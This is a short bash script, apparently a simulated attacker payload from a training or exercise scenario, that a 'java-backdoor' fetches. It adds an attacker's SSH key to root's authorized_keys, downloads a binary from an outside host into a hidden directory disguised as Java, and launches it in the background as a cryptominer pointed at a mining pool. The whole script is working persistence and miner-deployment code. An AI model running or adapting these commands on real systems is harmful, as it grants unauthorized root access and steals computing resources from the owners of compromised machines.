#!/bin/bash
# What the story java-backdoor fetches: allows a key, and starts a simulated miner after a while.
mkdir -p /root/.ssh /opt/app/.jvm
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAID backdoor" >>/root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
curl -s -o /opt/app/.jvm/java http://203.0.113.10/agent
chmod 755 /opt/app/.jvm/java
echo "-o stratum+ssl://203.0.113.25:443 -s 14" >/opt/app/.jvm/options
(sleep 10; exec /opt/app/.jvm/java -c /opt/app/.jvm/options) >/dev/null 2>&1 &
